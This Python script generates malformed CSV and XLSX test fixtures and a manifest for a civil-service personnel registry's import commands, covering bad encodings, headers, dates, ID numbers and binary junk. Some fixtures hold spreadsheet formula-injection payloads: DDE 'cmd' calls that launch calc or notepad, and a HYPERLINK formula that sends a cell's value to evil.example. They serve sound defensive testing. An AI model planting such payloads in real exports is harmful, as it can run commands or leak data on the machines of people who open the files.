"""Write the bad-input corpus and its manifest: `python tests/data/bad/make_corpus.py`.

Each file breaks one thing (an encoding, a header, a cell, the bytes themselves) in a file
that is otherwise valid for its import. `manifest.csv` says, per file, which import it targets
(`civic <target> import FILE`), the spreadsheet row and the header as written where the
problem is (empty when no row applies: an empty or binary file), and a phrase the message must
contain. tests/faults/test_bad_input.py feeds every file to the CLI and holds it to that.

The files are committed; rerun this after changing it (it is deterministic) and commit both.
Plugins' imports have their own cases (target = their CLI command up to FILE; the test
sets up the nomination and the placement batch those commands name).
"""

from __future__ import annotations

import csv
import io
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

# --- valid rows for each import (the office under test has the examples' units/positions) ---

UNITS = ["code", "name", "parent", "kind"]
PEOPLE = ["编号", "姓名", "性别", "出生日期", "民族", "政治面貌", "入党时间", "学历",
          "参加工作时间", "职级", "任现职级时间", "单位", "职位", "状态", "标签"]
POSITIONS = ["编号", "职位名称", "单位", "职级", "职数", "最低职级", "任职年限", "最高年龄",
             "最低学历", "党员要求", "备注"]


def unit(i: int) -> list[str]:
    return [f"U{i:03d}", f"测试单位{i}", "KM", "department"]


def person(i: int) -> list[str]:
    return [f"T{i:04d}", f"测试{i}", "男女"[i % 2], f"19{60 + i % 30}-0{1 + i % 9}-1{i % 9}",
            "汉族", "中共党员", "1990-07", "本科", "1988-08", "正科", "2005-03", "KM-GOV", "",
            "在职", ""]


def position(i: int) -> list[str]:
    return [f"Q{i:03d}", f"测试职位{i}", "KM-GOV", "正处", "1", "副处", "2", "50", "本科", "是",
            ""]


TARGETS: dict[str, tuple[list[str], Callable[[int], list[str]]]] = {
    "units": (UNITS, unit), "people": (PEOPLE, person), "positions": (POSITIONS, position),
}

cases: list[dict] = []


COMMANDS = {"units": "units import", "people": "people import",
            "positions": "positions import"}


def add(name: str, target: str, data: bytes, row: int | None, column: str | None,
        expect: str, gap: str = "") -> None:
    """`target` is a registry table or a plugin's import command (before FILE); `gap` says
    why civic does not refuse this file yet (the test expects it to fail until it does)."""
    cases.append({"file": name, "target": COMMANDS.get(target, target), "data": data,
                  "row": row, "column": column, "expect": expect, "gap": gap})


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode(encoding)


def table(target: str, n: int = 5) -> list[list[str]]:
    head, make = TARGETS[target]
    return [list(head)] + [make(i) for i in range(n)]


def with_cell(target: str, data_row: int, header: str, value: str, n: int = 5
              ) -> tuple[list[list[str]], int, str]:
    """A table whose `data_row`-th data row (0-based) has `value` under `header`."""
    rows = table(target, n)
    rows[data_row + 1][rows[0].index(header)] = value
    return rows, data_row + 2, header


def cell_case(name: str, target: str, header: str, value: str, expect: str,
              data_row: int = 2, encoding: str = "utf-8") -> None:
    rows, row, column = with_cell(target, data_row, header, value)
    add(name, target, csv_bytes(rows, encoding), row, column, expect)


# --- wrong encodings --------------------------------------------------------------------------

def encodings() -> None:
    for target in TARGETS:
        text = csv_bytes(table(target)).decode()
        add(f"{target}-utf16le-no-bom.csv", target, text.encode("utf-16-le"), None, None,
            "not a CSV or XLSX file")
        add(f"{target}-utf16be-no-bom.csv", target, text.encode("utf-16-be"), None, None,
            "not a CSV or XLSX file")
        add(f"{target}-utf32.csv", target, text.encode("utf-32"), None, None,
            "not a CSV or XLSX file")
    # A UTF-8 file long enough that detection settles on UTF-8, then one row in GBK or
    # Latin-1 (pasted from another file): that row and cell are named.
    for target, header in (("people", "姓名"), ("units", "name"), ("positions", "职位名称")):
        head, make = TARGETS[target]
        rows: list[list[str]] = []
        while len(body := csv_bytes([head] + rows)) < 66_000:  # just past the 64 KB sample
            rows += [make(len(rows) + i) for i in range(50)]
        col = head.index(header)
        for label, bad in (("gbk", "错误编码".encode("gbk")), ("latin1", "Müller".encode("latin-1"))):
            broken = list(make(5000))
            broken[col] = "@@CELL@@"
            line = csv_bytes([broken]).replace(b"@@CELL@@", bad)
            add(f"{target}-utf8-then-{label}-row.csv", target, body + line, len(rows) + 2,
                header, "not valid UTF-8")
    # A long GBK file (detected as such) whose later row has a character cut short.
    head, make = TARGETS["people"]
    rows = []
    while len(body := csv_bytes([head] + rows, "gbk")) < 66_000:
        rows += [make(len(rows) + i) for i in range(50)]
    broken = list(make(9000))
    broken[1] = "@@CELL@@"
    line = csv_bytes([broken], "gbk").replace(b"@@CELL@@", "测试".encode("gbk") + b"\xff")
    add("people-gbk-then-bad-byte.csv", "people", body + line, len(rows) + 2, "姓名",
        "not valid GB18030")


# --- headers ----------------------------------------------------------------------------------

def headers() -> None:
    for target, (head, _make) in TARGETS.items():
        required = [h for h in head[:2]]  # code and name/title are the required columns
        for h in required:
            rows = table(target)
            i = rows[0].index(h)
            add(f"{target}-missing-{_ascii(h)}.csv", target,
                csv_bytes([r[:i] + r[i + 1:] for r in rows]), 1, None, "missing required column")
        rows = table(target)
        dup = head[2]
        rows = [r + [r[2]] for r in rows]
        add(f"{target}-duplicate-header.csv", target, csv_bytes(rows), 1, dup,
            "duplicate column")
        rows = table(target)
        rows[0][2] = rows[0][2] + "x"
        add(f"{target}-misspelt-header.csv", target, csv_bytes(rows), 1, rows[0][2],
            "unknown column")
        rows = table(target)
        rows = [r + ["extra"] for r in rows[:1]] + rows[1:]
        add(f"{target}-unknown-header.csv", target, csv_bytes(rows), 1, "extra",
            "unknown column")
        rows = table(target)
        rows = [r + [""] for r in rows[:1]] + [r + ["stray"] for r in rows[1:2]] + rows[2:]
        add(f"{target}-cell-without-header.csv", target, csv_bytes(rows), 2, None,
            "header")
        rows = table(target)
        rows[3] = rows[3] + ["one", "too", "many"]
        add(f"{target}-too-many-cells.csv", target, csv_bytes(rows), 4, None, "cells")
        add(f"{target}-header-only-junk.csv", target, csv_bytes([["a", "b", "c"], ["1", "2", "3"]]),
            1, "a", "unknown column")
    # Required column present but empty in one row.
    for target, (head, _make) in TARGETS.items():
        for h in head[:2]:
            cell_case(f"{target}-empty-{_ascii(h)}.csv", target, h, "", "a value is required")


def _ascii(header: str) -> str:
    return {"编号": "code", "姓名": "name", "职位名称": "title"}.get(header, header)


# --- bad values: dates, codes, numbers, enumerations ------------------------------------------

def values() -> None:
    for i, value in enumerate(("1965-13-01", "1965-02-30", "sometime", "65/3/1", "1965年13月",
                               "19651301", "二〇〇八年", "0000-00-00")):
        cell_case(f"people-bad-birth-date-{i}.csv", "people", "出生日期", value,
                  "out of range" if i in (0, 1, 4, 5, 7) else "not a date")
    for header in ("入党时间", "参加工作时间", "任现职级时间"):
        cell_case(f"people-bad-date-{_slug(header)}.csv", "people", header, "2008-02-31",
                  "out of range")
    cell_case("people-unknown-unit.csv", "people", "单位", "NO-SUCH-UNIT", "unknown")
    cell_case("people-unknown-position.csv", "people", "职位", "P-NONE", "unknown")
    cell_case("people-unknown-rank.csv", "people", "职级", "大元帅", "rank")
    cell_case("people-unknown-education.csv", "people", "学历", "幼儿园", "education")
    cell_case("people-unknown-status.csv", "people", "状态", "失踪", "unknown status")
    cell_case("people-bad-gender.csv", "people", "性别", "X", "gender")
    cell_case("positions-unknown-unit.csv", "positions", "单位", "ZZ", "unknown")
    cell_case("positions-unknown-rank.csv", "positions", "职级", "司令", "rank")
    cell_case("positions-unknown-min-rank.csv", "positions", "最低职级", "少校", "rank")
    cell_case("positions-negative-headcount.csv", "positions", "职数", "-1", "whole number")
    cell_case("positions-fraction-headcount.csv", "positions", "职数", "1.5", "whole number")
    cell_case("positions-text-headcount.csv", "positions", "职数", "两个", "whole number")
    cell_case("positions-bad-years.csv", "positions", "任职年限", "三年", "number of years")
    cell_case("positions-negative-years.csv", "positions", "任职年限", "-2", "number of years")
    cell_case("positions-bad-max-age.csv", "positions", "最高年龄", "fifty", "whole number")
    cell_case("positions-bad-party-flag.csv", "positions", "党员要求", "maybe", "yes or no")
    cell_case("positions-unknown-education.csv", "positions", "最低学历", "小学", "education")
    cell_case("units-unknown-parent.csv", "units", "parent", "NOWHERE", "unknown")
    # Duplicate codes: the second occurrence is named.
    for target, (head, _make) in TARGETS.items():
        rows = table(target)
        rows[4][0] = rows[2][0]
        add(f"{target}-duplicate-code.csv", target, csv_bytes(rows), 5, head[0],
            "already on row 3")
    # A unit that is its own ancestor.
    rows = [UNITS, ["LA", "环甲", "LB", "department"], ["LB", "环乙", "LA", "department"]]
    add("units-parent-loop.csv", "units", csv_bytes(rows), 2, "parent", "loops")
    rows = [UNITS, ["SELF", "自己", "SELF", "department"]]
    add("units-own-parent.csv", "units", csv_bytes(rows), 2, "parent", "loops")
    # An ID number with a wrong check digit.
    rows = table("people")
    rows[0].append("身份证号")
    for r in rows[1:]:
        r.append("")
    rows[3][-1] = "53010219650301001X"
    add("people-bad-id-number.csv", "people", csv_bytes(rows), 4, "身份证号",
        "resident ID number")


def _slug(header: str) -> str:
    return {"入党时间": "party-joined", "参加工作时间": "work-start",
            "任现职级时间": "rank-since"}[header]


# --- empty files, binary junk, huge fields, unclosed quotes -----------------------------------

def junk() -> None:
    rng = random.Random(20080701)
    for target in TARGETS:
        add(f"{target}-empty.csv", target, b"", None, None, "empty")
        add(f"{target}-only-bom.csv", target, b"\xef\xbb\xbf", None, None, "empty")
        add(f"{target}-only-blank-lines.csv", target, b"\r\n \r\n\t\r\n", None, None, "empty")
        add(f"{target}-random-bytes.csv", target, rng.randbytes(4096), None, None,
            "not a CSV or XLSX file")
        add(f"{target}-png.csv", target,
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randbytes(500), None, None,
            "not a CSV or XLSX file")
        add(f"{target}-broken-zip.xlsx", target, b"PK\x03\x04" + rng.randbytes(600), None,
            None, "not a readable XLSX file")
        add(f"{target}-old-xls.xls", target,
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), None, None, ".xls")
        add(f"{target}-zip-not-workbook.xlsx", target, _zip({"hello.txt": b"hello"}), None,
            None, "not a readable XLSX file")
        add(f"{target}-elf.csv", target, b"\x7fELF\x02\x01\x01" + bytes(9) + rng.randbytes(300),
            None, None, "not a CSV or XLSX file")
        # A cell of 200 KB: beyond the csv module's field limit, as an open quote would be.
        rows, row, _column = with_cell(target, 1, TARGETS[target][0][1], "HUGE")
        data = csv_bytes(rows).replace(b"HUGE", b"x" * 200_000)
        add(f"{target}-huge-field.csv", target, data, row, None, "longer than")
        rows = table(target)
        data = csv_bytes(rows).replace(rows[2][1].encode(), b'"' + rows[2][1].encode())
        add(f"{target}-unclosed-quote.csv", target, data, 3, TARGETS[target][0][1],
            "quote")


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name, (2008, 7, 1, 0, 0, 0)), data)  # deterministic
    return out.getvalue()


# --- formula injection: a cell a spreadsheet would run ----------------------------------------

FORMULAS = ("=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1",
            "\t=cmd|' /C notepad'!A1")


def formulas() -> None:
    for i, value in enumerate(FORMULAS):
        for target, header in (("people", "姓名"), ("units", "name"), ("positions", "职位名称")):
            cell_case(f"{target}-formula-{i}.csv", target, header, value, "formula")
    cell_case("positions-formula-notes.csv", "positions", "备注", "=WEBSERVICE(\"x\")", "formula")
    cell_case("people-formula-tags.csv", "people", "标签", "@军转干部", "formula")


# --- XLSX with a bad cell: the row number is the sheet's --------------------------------------

def xlsx_cases() -> None:
    import openpyxl

    for target, header, value, expect in (
            ("people", "出生日期", "not a date", "not a date"),
            ("positions", "职数", "many", "whole number"),
            ("units", "parent", "NOWHERE", "unknown")):
        rows, row, column = with_cell(target, 3, header, value)
        book = openpyxl.Workbook()
        sheet = book.active
        for r in rows:
            sheet.append(r)
        out = io.BytesIO()
        book.save(out)
        add(f"{target}-bad-cell.xlsx", target, _stable_zip(out.getvalue()), row, column,
            expect)


def _stable_zip(data: bytes) -> bytes:
    """openpyxl stamps the time into the workbook; rewrite members with fixed dates."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                import re

                body = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2008-07-01T00:00:00Z", body)
            dst.writestr(zipfile.ZipInfo(info.filename, (2008, 7, 1, 0, 0, 0)), body)
    return out.getvalue()


# --- the plugins' imports ---------------------------------------------------------------------

BALLOTS = "nomination ballots import 1"  # nomination 1: posts P-MSZ and P-CZJZ, round 1 open
ROLL = "nomination roll 1"
OFFICERS = "placement officers import 1"  # batch 1: its scheme set
POSTS = "placement posts import 1"
PREFERENCES = "placement preferences import 1"  # batch 1 with the examples' officers, posts

OFFICER_HEAD = ["编号", "姓名", "出生日期", "性别", "学历", "政治面貌", "专业", "职务等级",
                "入伍时间", "任现职时间", "立功受奖", "考核", "考试"]


def officer(i: int) -> list[str]:
    return [f"J{i + 100:03d}", f"军转{i}", "1965-05-12", "男", "本科", "中共党员", "财务",
            "正团", "1983.10", "2003-07-01", "三等功", "85.5", "80"]


def plugin_cases() -> None:
    head = ["ballot", "position", "choice"]
    good = [[str(n), post, "C0001" if n % 2 else "C0002"] for n in range(1, 7)
            for post in ("P-MSZ", "P-CZJZ")]

    def ballots(name: str, rows: list[list[str]], row: int | None, column: str | None,
                expect: str, gap: str = "") -> None:
        add(f"ballots-{name}.csv", BALLOTS, csv_bytes([head] + rows), row, column, expect, gap)

    for label, value in (("text", "abc"), ("zero", "0"), ("negative", "-3")):
        rows = [list(r) for r in good]
        rows[4][0] = value
        ballots(f"bad-number-{label}", rows, 6, "ballot", "ballot number")
    rows = [list(r) for r in good]
    rows[5][1] = "P-NOPE"
    ballots("unknown-position", rows, 7, "position", "not a position voted on")
    rows = [list(r) for r in good] + [["1", "P-MSZ", "C0003"]]
    ballots("ballot-rows-apart", rows, len(rows) + 1, "ballot", "again")
    add("ballots-missing-position.csv", BALLOTS,
        csv_bytes([["ballot", "choice"]] + [[r[0], r[2]] for r in good]), 1, None,
        "missing required column")
    add("ballots-duplicate-header.csv", BALLOTS,
        csv_bytes([head + ["choice"]] + [r + [r[2]] for r in good]), 1, "choice",
        "duplicate column")
    add("ballots-empty.csv", BALLOTS, b"", None, None, "empty")
    add("ballots-binary.csv", BALLOTS, random.Random(9).randbytes(3000), None, None,
        "not a CSV or XLSX file")
    add("ballots-utf16.csv", BALLOTS, csv_bytes([head] + good).decode().encode("utf-16-le"),
        None, None, "not a CSV or XLSX file")
    data = csv_bytes([head] + good[:3] + [["2", "P-CZJZ", "HUGE"]] + good[4:])
    add("ballots-huge-field.csv", BALLOTS, data.replace(b"HUGE", b"x" * 200_000), 5, None,
        "longer than")
    rows = [list(r) for r in good]
    rows[2][2] = "=HYPERLINK(\"http://evil.example\",\"x\")"
    ballots("formula-write-in", rows, 4, "choice", "formula",
            gap="a write-in is kept as written for adjudication, formula or not")

    roll_head = ["code", "name", "category"]
    roll = [[f"E{i}", f"选举人{i}", "党代表"] for i in range(1, 7)]

    def roll_case(name: str, rows: list[list[str]], row: int | None, column: str | None,
                  expect: str) -> None:
        add(f"roll-{name}.csv", ROLL, csv_bytes(rows), row, column, expect)

    rows = [roll_head] + [list(r) for r in roll]
    rows[4][0] = "E1"
    roll_case("duplicate-elector", rows, 5, "code", "twice")
    rows = [roll_head] + [list(r) for r in roll]
    rows[3][1] = ""
    roll_case("empty-name", rows, 4, "name", "a value is required")
    roll_case("missing-name", [["code", "category"]] + [[r[0], r[2]] for r in roll], 1, None,
              "missing required column")
    add("roll-formula-name.csv", ROLL, csv_bytes([roll_head] + roll[:2] + [["E9", "@SUM(1)", "x"]]),
        4, "name", "formula")
    add("roll-binary.csv", ROLL, b"\x00\x01\x02" * 500, None, None, "not a CSV or XLSX file")

    def officers(name: str, rows: list[list[str]], row: int | None, column: str | None,
                 expect: str) -> None:
        add(f"officers-{name}.csv", OFFICERS, csv_bytes(rows), row, column, expect)

    base = [OFFICER_HEAD] + [officer(i) for i in range(5)]
    for label, header, value, expect in (
            ("bad-birth-date", "出生日期", "1965-13-01", "out of range"),
            ("bad-service-date", "入伍时间", "someday", "not a date"),
            ("bad-exam", "考试", "满分", "not a number"),
            ("bad-assessment", "考核", "-", "not a number"),
            ("unknown-rank", "职务等级", "大元帅", "points table"),
            ("bad-education", "学历", "幼儿园", "education")):
        rows = [list(r) for r in base]
        rows[3][OFFICER_HEAD.index(header)] = value
        officers(label, rows, 4, header, expect)
    rows = [list(r) for r in base]
    rows[3][1] = "=1+1"
    add("officers-formula-name.csv", OFFICERS, csv_bytes(rows), 4, "姓名", "formula")
    rows = [list(r) for r in base]
    rows[4][0] = rows[2][0]
    officers("duplicate-code", rows, 5, "编号", "already on row 3")
    officers("missing-columns", [OFFICER_HEAD[:3]] + [r[:3] for r in base[1:]], 1, None,
             "missing required column")

    posts_head = ["职位", "名额", "资格条件"]
    add("posts-unknown-position.csv", POSTS,
        csv_bytes([posts_head, ["JZ-01", "1", ""], ["JZ-99", "1", ""]]), 3, "职位", "unknown")
    add("posts-bad-capacity.csv", POSTS,
        csv_bytes([posts_head, ["JZ-01", "1", ""], ["JZ-02", "两", ""]]), 3, "名额",
        "whole number")
    add("posts-bad-condition.csv", POSTS,
        csv_bytes([posts_head, ["JZ-01", "1", "专业~~财务"]]), 2, "资格条件", "COLUMN=VALUE")
    add("posts-empty.csv", POSTS, b"\xef\xbb\xbf", None, None, "empty")

    prefs_head = ["编号", "志愿", "职位"]
    add("preferences-unknown-officer.csv", PREFERENCES,
        csv_bytes([prefs_head, ["J001", "1", "JZ-01"], ["J999", "1", "JZ-01"]]), 3, "编号",
        "not in this batch")
    add("preferences-bad-order.csv", PREFERENCES,
        csv_bytes([prefs_head, ["J001", "1", "JZ-01"], ["J002", "first", "JZ-02"]]), 3, "志愿",
        "whole number")
    add("preferences-post-not-offered.csv", PREFERENCES,
        csv_bytes([prefs_head, ["J001", "1", "JZ-01"], ["J002", "1", "P-MSZ"]]), 3, "职位",
        "not offered")
    add("preferences-duplicate-order.csv", PREFERENCES,
        csv_bytes([prefs_head, ["J001", "1", "JZ-01"], ["J001", "1", "JZ-02"]]), 3, "志愿", "already on row 2")


# --- trust holes: ranges, nan/inf, far dates, ID numbers, invisible characters, XLSX cells ----

def _id(first17: str) -> str:
    """An ID number with its right check character (ISO 7064 MOD 11-2), as GB 11643 fixes."""
    total = sum(int(d) * (2 ** (17 - i) % 11) for i, d in enumerate(first17))
    return first17 + "10X98765432"[total % 11]


def with_ids(ids: list[str]) -> list[list[str]]:
    """The people table with a 身份证号 column, the given numbers on the first rows."""
    rows = table("people")
    rows[0].append("身份证号")
    for i, r in enumerate(rows[1:]):
        r.append(ids[i] if i < len(ids) else "")
    return rows


INVISIBLE = {"esc": "\x1b[2J", "bel": "\x07", "c1-csi": "\x9b31m", "del": "\x7f",
             "zwsp": "\u200b", "rlo": "\u202e", "lri": "\u2066", "rlm": "\u200f",
             "bom": "\ufeff", "soft-hyphen": "\u00ad", "line-separator": "\u2028"}


def trust_cases() -> None:
    # Numbers: each out of its sane range, and nan/inf that Python reads as floats.
    for label, header, value, expect in (
            ("headcount-1e23", "职数", "1e23", "outside the range"),
            ("headcount-23-digits", "职数", "1" + "0" * 23, "outside the range"),
            ("headcount-inf", "职数", "inf", "whole number"),
            ("headcount-nan", "职数", "nan", "whole number"),
            ("max-age-0", "最高年龄", "0", "outside the range"),
            ("max-age-17", "最高年龄", "17", "outside the range"),
            ("max-age-200", "最高年龄", "200", "outside the range"),
            ("max-age-nan", "最高年龄", "NaN", "whole number"),
            ("max-age-infinity", "最高年龄", "Infinity", "whole number"),
            ("years-nan", "任职年限", "nan", "number of years"),
            ("years-inf", "任职年限", "inf", "number of years"),
            ("years-overflow", "任职年限", "1e309", "number of years"),
            ("years-10000", "任职年限", "10000", "outside the range")):
        cell_case(f"positions-{label}.csv", "positions", header, value, expect)
    # Dates a person's record cannot hold.
    for label, header, value in (("birth-2999", "出生日期", "2999-01-01"),
                                 ("birth-1850", "出生日期", "1850-05-01"),
                                 ("birth-year-1", "出生日期", "0001-01-01"),
                                 ("party-1800", "入党时间", "1800-07"),
                                 ("work-3000", "参加工作时间", "3000-01")):
        cell_case(f"people-date-{label}.csv", "people", header, value, "possible range")
    # ID numbers: one number under two codes (also full-width, lower-case x), and numbers
    # that cannot exist.
    first = _id("13010219620315001")  # 长安区 (1983) for a 1962 birth: valid
    wide = first.translate(str.maketrans("0123456789X", "０１２３４５６７８９Ｘ"))
    x_last = _id("53010219650301018")
    assert x_last.endswith("X")
    for label, ids, row in (("same", [first, "", first], 4), ("full-width", [first, wide], 3),
                            ("lower-x", [x_last, x_last.lower()], 3)):
        add(f"people-id-twice-{label}.csv", "people", csv_bytes(with_ids(ids)), row,
            "身份证号", "already given on row 2")
    for label, number, expect in (("no-region", _id("99000019650301001"), "no region"),
                                  ("no-county", _id("53999919650301001"), "no region"),
                                  ("born-3001", _id("53010230010301001"), "birth date"),
                                  ("born-1889", _id("53010218890301001"), "birth date"),
                                  ("letter", "53010219650301001A", "17 digits")):
        add(f"people-id-{label}.csv", "people", csv_bytes(with_ids(["", number])), 3,
            "身份证号", "resident ID number")
    # Invisible and control characters in a name, for each registry import.
    for label, char in INVISIBLE.items():
        for target, header in (("people", "姓名"), ("units", "name"), ("positions", "职位名称")):
            cell_case(f"{target}-invisible-{label}.csv", target, header, f"名{char}称",
                      f"U+{ord(char[0]):04X}", data_row=1)
    # XLSX cells that would lose data silently.
    for target, header, col in (("people", "姓名", "B"), ("units", "name", "B"),
                                ("positions", "职位名称", "B")):
        for label, edit, expect in (
                ("error-cell", lambda s, c: s.__setitem__(f"{c}3", "#DIV/0!"), "#DIV/0!"),
                ("formula-no-value", lambda s, c: s.__setitem__(f"{c}3", "=1+1"),
                 "formula saved"),
                ("merged-rows", lambda s, c: s.merge_cells(f"{c}3:{c}4"), "merged cells")):
            book = _book(table(target))
            edit(book.active, col)
            add(f"{target}-{label}.xlsx", target, _saved(book), 3, header, expect)


def _book(rows: list[list[str]]):
    import openpyxl

    book = openpyxl.Workbook()
    for r in rows:
        book.active.append(r)
    return book


def _saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return _stable_zip(out.getvalue())


def main() -> None:
    encodings()
    headers()
    values()
    junk()
    formulas()
    xlsx_cases()
    plugin_cases()
    trust_cases()
    FILES.mkdir(exist_ok=True)
    for old in FILES.iterdir():
        old.unlink()
    names = [c["file"] for c in cases]
    assert len(names) == len(set(names)), "two cases share a file name"
    for case in cases:
        (FILES / case["file"]).write_bytes(case["data"])
    with (HERE / "manifest.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(["file", "target", "row", "column", "expect", "gap"])
        for c in cases:
            w.writerow([c["file"], c["target"], c["row"] or "", c["column"] or "", c["expect"],
                        c["gap"]])
    print(f"wrote {len(cases)} files to {FILES} and manifest.csv")


if __name__ == "__main__":
    main()
